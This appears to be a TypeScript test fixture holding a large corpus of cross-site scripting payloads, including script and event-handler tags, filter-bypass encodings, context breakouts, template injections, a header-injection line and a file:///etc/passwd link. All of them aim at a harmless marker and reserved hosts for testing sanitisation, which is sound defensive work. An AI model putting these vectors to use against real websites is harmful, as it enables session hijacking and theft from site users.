// What people type who mean harm: each piece would set `__xss`, put a `data-xss` element into the page or call
// xss.invalid, if any text were ever taken for HTML, a script, a style, a template or an address.

const run = '__xss=1'

/** For every field that takes free text. */
export const hostileTexts: readonly string[] = [
  // Elements that run.
  `<script>${run}</script>`,
  `<script src=//xss.invalid/x.js></script>`,
  `<ScRiPt\n>${run}</sCrIpT\t>`,
  `<img data-xss src=x onerror=${run}>`,
  `<img/data-xss/src=x/onerror=${run}//`,
  `<svg data-xss onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate data-xss onbegin=${run} attributeName=x dur=1s>`,
  `<svg><a data-xss xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<iframe data-xss src="javascript:${run}"></iframe>`,
  `<iframe data-xss srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<object data-xss data="javascript:${run}"></object>`,
  `<embed data-xss src="data:text/html,<script>${run}</script>">`,
  `<video data-xss><source onerror=${run}></video>`,
  `<audio data-xss src=x onerror=${run}>`,
  `<input data-xss autofocus onfocus=${run}>`,
  `<details data-xss open ontoggle=${run}>`,
  `<marquee data-xss onstart=${run}>`,
  `<body onload=${run}>`,
  `<xss data-xss tabindex=1 autofocus onfocus=${run}>`,
  `<template data-xss><script>${run}</script></template>`,
  // Elements that change where the page goes.
  `<base data-xss href="//xss.invalid/">`,
  `<meta data-xss http-equiv=refresh content="0;url=//xss.invalid/">`,
  `<link data-xss rel=stylesheet href="//xss.invalid/x.css">`,
  `<form data-xss action="javascript:${run}"><button>x</button></form>`,
  `<a data-xss href="javascript:${run}">x</a>`,
  `<a data-xss href="java\tscript:${run}">x</a>`,
  `<a data-xss href="&#106;avascript&colon;${run}">x</a>`,
  `<a data-xss href=" vbscript:${run}">x</a>`,
  `<a data-xss href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  // Breaks out of the text's context.
  `"><img data-xss src=x onerror=${run}>`,
  `'><svg data-xss onload=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}' x='`,
  '` onmouseover=`__xss=1',
  `</textarea><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script><!--`,
  `]]><script>${run}</script>`,
  `<noscript><p title="</noscript><img data-xss src=x onerror=${run}>">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img data-xss src=1 onerror=${run}&gt;">`,
  // Styles.
  `<style data-xss>@import "//xss.invalid/x.css";</style>`,
  `<p data-xss style="background:url(//xss.invalid/x.png)">`,
  `red;background:url("javascript:${run}")`,
  `width:expression(${run})`,
  // Templates, code and sheets.
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}`,
  `#{${run}}`,
  `<%= ${run} %>`,
  `[[\${${run}}]]`,
  `'-(${run})-'`,
  `\\';${run};//`,
  `__proto__`,
  `=HYPERLINK("//xss.invalid","__xss")`,
  // Markdown.
  `[x](javascript:${run})`,
  `![x](//xss.invalid/x.png)`,
  `<javascript:${run}>`,
  // What another reading would make of it.
  `%3Cscript%3E${run}%3C/script%3E`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  String.raw`\u003cscript\u003e${run}\u003c/script\u003e`,
  `＜script＞${run}＜/script＞`,
  `<ſcript>${run}</ſcript>`,
  `<scr\u200bipt>${run}</scr\u200bipt>`,
  `\u202e>tpircs/<1=ssx__>tpircs<`,
  // Lines of a header.
  `__xss\r\nBcc: xss@xss.invalid\r\n\r\n<script>${run}</script>`,
]

/** Where a web address is asked for: none of them is one. */
export const hostileLinks: readonly string[] = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  `java\tscript:${run}`,
  `java\nscript:${run}`,
  `\u0001javascript:${run}`,
  ` javascript:${run}`,
  `javascript://xss.invalid/%0a${run}`,
  `javascript:\u2028${run}`,
  `vbscript:${run}`,
  `data:text/html,<script>${run}</script>`,
  `data:image/svg+xml,<svg onload=${run}>`,
  `blob:https://xss.invalid/x`,
  `file:///etc/passwd`,
  `//xss.invalid/x`,
  `https:xss.invalid`,
  `https:///xss.invalid`,
  `https://xss.invalid\\@example.com/`,
  `https://user@xss.invalid/`.replace('https', 'ftp'),
  `filesystem:https://xss.invalid/x`,
]

/** The whole corpus in as few texts as such a field takes, none of the pieces cut. */
export function filling(limit: number): string[] {
  const texts: string[] = []
  for (const piece of hostileTexts) {
    const last = texts.at(-1)
    if (last !== undefined && last.length + piece.length + 1 <= limit) texts[texts.length - 1] = `${last} ${piece}`
    else texts.push(piece)
  }
  return texts
}

/** The pieces that go whole into a field as short as that. */
export function fitting(limit: number): string[] {
  return hostileTexts.filter(({ length }) => length <= limit)
}

/** Valid addresses: before the @ are many characters with a meaning elsewhere. */
export const hostileAddresses: readonly string[] = [
  `'{{${run}}}'@xss.example`,
  `\${${run}}@xss.example`,
  `\`/*\`+'__xss'=1@xss.example`,
  `'onfocus='${run}'autofocus='@xss.example`,
]

/** Valid links of one shop, as an example of all; nothing but letters and signs, no space among them. */
export const takenLinks: readonly string[] = [
  `https://shop.example/"><img/data-xss/src=x/onerror=${run}>`,
  `https://shop.example/'onerror='${run}'x='`,
  `https://shop.example/</style><script>${run}</script>`,
  `https://shop.example/)}*{background:url(//xss.invalid/x.png)}`,
  `https://shop.example/?javascript:${run}#"onload="${run}`,
]
